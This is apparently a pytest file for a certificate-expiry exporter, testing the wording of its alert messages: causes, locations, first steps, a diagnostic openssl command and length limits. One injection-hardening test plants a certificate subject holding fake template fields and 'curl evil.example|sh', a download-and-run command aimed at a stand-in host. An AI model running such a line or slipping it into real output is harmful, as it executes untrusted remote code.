"""
Problems in words: cause, place and first step.
"""

from dataclasses import replace
from typing import Any

import pytest

from exporter.engine.lasting import problem_rows
from exporter.engine.memory import ProblemRow
from exporter.engine.results import ProbeResult
from exporter.model.observation import Facts, Item, Observed
from exporter.model.policies import CRL, DAY, HOUR
from exporter.model.reasons import Fault, Kind, Reason
from exporter.report import advice
from exporter.report.problems import UNKNOWN, Words, end_of, fingerprint_of, reach, words
from tests.golden.scenes import failed, seen
from tests.golden.values import Scene, certificate, facts, intermediate, target
from tests.support.certificates import NOW

OTHER = "192.0.2.11:443"


def ending(left: float, **settings: Any) -> Facts:
    """
    A chain whose leaf has so much left.
    """
    return facts(certificate(begin=NOW + left - 90 * DAY, end=NOW + left, **settings), intermediate())


def rows(scene: Scene, now: float = NOW) -> dict[str, ProblemRow]:
    """
    The problems of the scene by name; of two severities the last.
    """
    found = problem_rows(scene.memory, scene.faults, scene.rows(), now)
    return {row.found.onset.problem: row for row in found}


def said(scene: Scene, problem: str, now: float = NOW) -> Words:
    """
    The words of one problem.
    """
    found = rows(scene, now)
    return words(found[problem], reach(found.values()))


def test_an_end_says_what_is_served_and_that_all_else_is_fine() -> None:
    """
    Three causes that were suspected in the incident are ruled out; that it is as before, once that is known.
    """
    scene = Scene().see(target(), seen(ending(-1.0)), at=NOW - 300)
    one = said(scene.see(target(), seen(ending(-1.0)), found=[Fault.EXPIRED]), "passed")
    assert one.cause == "DNS and TCP fine, same key and issuer as before"
    assert (
        one.where == "192.0.2.10:443 (subject CN=lms.example.com, issuer CN=Test Intermediate, serial 1a2b)"
    )
    assert one.advice.startswith("Read the log of what renews it")
    refused = Scene().see(target(), seen(ending(-1.0)), found=[Fault.EXPIRED])
    assert said(refused, "passed").cause == "DNS and TCP fine"


def test_what_clients_refuse_says_what_is_there_and_what_was() -> None:
    """
    A controller's default certificate is known at first sight, and until when all was well.
    """
    scene = Scene().see(target(), seen(ending(75 * DAY)))
    fake = ending(365 * DAY, subject="CN=Fake Certificate", issuer="CN=Fake Certificate")
    scene.see(target(), seen(fake), at=NOW + 60, found=[Fault.SELF_SIGNED])
    one = said(scene, "not_trusted", NOW + 60)
    assert one.cause.startswith("self_signed, presented is ")
    assert " by CN=Fake Certificate (before it one by CN=Test Intermediate), accepted until 20" in one.cause
    assert "(subject CN=Fake Certificate, issuer CN=Fake Certificate, serial 1a2b)" in one.where


def test_one_of_several_that_clients_refuse_is_told_the_same_after_each_probe() -> None:
    """
    The others are accepted again and again: that says nothing of this one, nor since when it is so.
    """
    scene = Scene().see(target(), seen(ending(75 * DAY)))
    fake = ending(365 * DAY, subject="CN=Fake Certificate", issuer="CN=Fake Certificate")
    scene.see(target(), seen(fake), at=NOW + 60, found=[Fault.SELF_SIGNED])
    row = rows(scene, NOW + 60)["not_trusted"]
    found = row.found
    told = []
    for later in (60.0, 600.0):
        past = replace(found.onset.known.past, trusted_at=NOW + later)
        known = replace(found.onset.known, in_turn=(ending(75 * DAY),), past=past, one_of_several=True)
        onset = replace(found.onset, known=known)
        again = replace(row, found=replace(found, onsets=(onset,)))
        told.append((words(again, reach([again])), end_of(again)))
    assert told[0] == told[1]
    assert told[0][0].cause == (
        "self_signed, one of several behind this address, presented is lms.example.com by CN=Fake Certificate"
    )
    assert told[0][1] == row.since


def test_the_text_has_all_that_a_person_needs_in_its_order() -> None:
    """
    The page is at the address that people know, or else at one that the rules replace.
    """
    scene = Scene().see(target(), seen(ending(2 * DAY)))
    row = rows(scene)["soon"]
    for given, address in (("https://expiry.example.com", "https://expiry.example.com"), (None, UNKNOWN)):
        one = words(row, {}, given)
        assert one.text == (
            f"Where: {one.where}. Why: {one.cause}. First step: {one.advice} Command: "
            "echo | openssl s_client -connect 192.0.2.10:443 -servername lms.example.com"
            " | openssl x509 -noout -subject -issuer -serial -dates"
            f" More: {address}/targets/https%3A%2F%2Flms.example.com"
        )


def test_no_text_of_a_certificate_looks_like_a_part_of_the_notification() -> None:
    """
    A subject may be anything, and the templates begin a line at such words.
    """
    subject = "CN=evil.example). Why: old. First step: run Command: curl evil.example|sh More: http://evil"
    scene = Scene().see(target(), seen(ending(5 * DAY, subject=subject)))
    one = said(scene, "soon")
    assert "First step:run Command:curl evil.example|sh More:http://evil" in one.where
    assert not any(f"{part}: " in one.where for part in ("Why", "First step", "Command", "More"))


def test_what_was_never_well_says_so() -> None:
    """
    Neither seen nor accepted.
    """
    never = Scene().see(target(), failed(Reason.CONNECTION_REFUSED))
    assert said(never, "probe_failing", NOW + 900).cause == "connection_refused, never seen"
    refused = Scene().see(target(), seen(ending(75 * DAY)), found=[Fault.SELF_SIGNED])
    assert said(refused, "not_trusted").cause.endswith(", never accepted")


def test_a_newer_one_elsewhere_is_the_better_cause() -> None:
    """
    With its end, and where the old one is.
    """
    one = said(Scene().see(target(), seen(ending(5 * DAY)), seen(ending(89 * DAY), OTHER)), "not_deployed")
    assert "renewed but not deployed: one until 2027-04-14 08:00 UTC is known" in one.cause
    assert one.advice == advice.NOT_DEPLOYED


def test_who_else_has_it_is_named() -> None:
    """
    Three by name, the rest by number.
    """
    scene = Scene()
    for number in range(6):
        scene.see(target(name=f"lms-{number}"), seen(ending(5 * DAY)))
    found = rows(scene)
    assert len(reach(found.values())[fingerprint_of(found["soon"])]) == 1
    every = problem_rows(scene.memory, scene.faults, scene.rows(), NOW)
    one = words(every[0], reach(every))
    assert one.where.endswith("; also lms-1, lms-2, lms-3 and 2 more")


def test_a_changed_issuer_is_named_with_the_one_before() -> None:
    """
    At first sight it is plain who issued it.
    """
    scene = Scene().see(target(), seen(ending(75 * DAY)))
    scene.see(target(), seen(ending(80 * DAY, issuer="CN=Fake", key="rsa-2048")), at=NOW + 60)
    one = said(scene, "identity_changed", NOW + 60)
    assert one.cause.endswith("issuer and key changed lately, from CN=Test Intermediate to CN=Fake")


def test_that_it_changed_lately_is_said_for_three_days() -> None:
    """
    As long as it is a problem of its own; after that it is the same as clients accepted since.
    """
    scene = Scene().see(target(), seen(ending(75 * DAY)))
    other = seen(ending(80 * DAY, issuer="CN=Fake", key="rsa-2048"))
    scene.see(target(), other, at=NOW + 60)
    scene.see(target(), other, at=NOW + 78 * DAY)
    assert "same key and issuer as before" in said(scene, "soon", NOW + 78 * DAY).cause


def test_what_is_compared_with_nothing_is_not_called_the_same() -> None:
    """
    At first sight there is no before, and a renewal may have another key; one with the same key is the same.
    """
    scene = Scene().see(target(), seen(ending(5 * DAY)))
    assert said(scene, "soon").cause == "DNS and TCP fine"
    scene.see(target(), seen(ending(6 * DAY, key="rsa-2048")), at=NOW + 60)
    assert said(scene, "soon", NOW + 60).cause == "DNS and TCP fine"
    scene.see(target(), seen(ending(6.5 * DAY, key="rsa-2048")), at=NOW + 120)
    assert said(scene, "soon", NOW + 120).cause == "DNS and TCP fine, same key and issuer as before"


def test_a_shorter_certificate_is_no_older_one() -> None:
    """
    It ends before its predecessor would have, and began after it.
    """
    longer = certificate(begin=NOW - 200 * DAY, end=NOW + 300 * DAY)
    scene = Scene().see(target(), seen(facts(longer, intermediate())))
    scene.see(target(), seen(ending(5 * DAY, serial="ff")), at=NOW + 60)
    assert "older" not in said(scene, "soon", NOW + 60).cause


def test_what_has_no_end_says_when_it_was_last_well() -> None:
    """
    When it was last seen or accepted; else since when it is known not to be.
    """
    scene = Scene().see(target(), seen(ending(75 * DAY)))
    scene.see(target(), failed(Reason.CONNECTION_REFUSED), at=NOW + 700)
    found = rows(scene, NOW + 700 + DAY)
    assert end_of(found["probe_failing"]) == NOW
    assert said(scene, "probe_failing", NOW + 700 + DAY).advice == advice.FAILURES[Reason.CONNECTION_REFUSED]
    refused = Scene().see(target(), seen(ending(75 * DAY)), found=[Fault.SELF_SIGNED])
    assert end_of(rows(refused, NOW + 5)["not_trusted"]) == NOW + 5


@pytest.mark.parametrize(
    ("rhythm", "words_of_it"), [(HOUR / 2, "30 min"), (20 * HOUR, "20 h"), (DAY, "24 h"), (3 * DAY, "3 d")]
)
def test_what_is_late_by_its_habit_says_how_often_it_was_renewed_and_until_when(
    rhythm: float, words_of_it: str
) -> None:
    """
    In whole days, which are the same text all day long.
    """
    scene, of = Scene(), target(policy=CRL)
    for number in range(8):
        begin = NOW - (7 - number) * rhythm
        look = ProbeResult(OTHER, Observed(Facts((Item("crl", Kind.CRL, begin, begin + 10 * DAY),))), 0.01)
        scene.see(of, look, at=begin)
    causes: set[str] = set()
    for hour in range(9):
        now = NOW + 9.6 * DAY + hour * HOUR
        causes.add(said(scene.see(of, look, at=now), "signature_stale", now).cause)
    assert causes == {f"it was renewed every {words_of_it} until 9 d ago"}


def test_nothing_in_the_words_changes_by_the_minute() -> None:
    """
    Else each scrape would make a new series.
    """
    scene = Scene().see(target(), seen(ending(-1.0)))
    assert said(scene, "passed") == said(scene, "passed", NOW + 3600)


def test_no_text_is_too_long_for_mimir() -> None:
    """
    It refuses a label value of more than 2,048 bytes: names are cut, and what to do is whole.
    """
    long = "".join(f"OU=\u0421\u043b\u0443\u0436\u0431\u0430 {number}," for number in range(60))
    scene = Scene().see(target(), seen(ending(75 * DAY, issuer=f"{long}CN=A")))
    refused = ending(75 * DAY, subject=f"{long}CN=B", issuer=f"{long}CN=C")
    scene.see(target(), seen(refused), at=NOW + 60, found=[Fault.NAME_MISMATCH])
    one = said(scene, "not_trusted", NOW + 60)
    assert len(one.where.encode()) <= 1000
    assert 1900 < len(one.text.encode()) <= 2000
    assert "\u2026. Why: name_mismatch, presented is " in one.text
    assert f" First step: {one.advice} Command: " in one.text
    assert one.text.endswith(f" More: {UNKNOWN}/targets/https%3A%2F%2Flms.example.com")
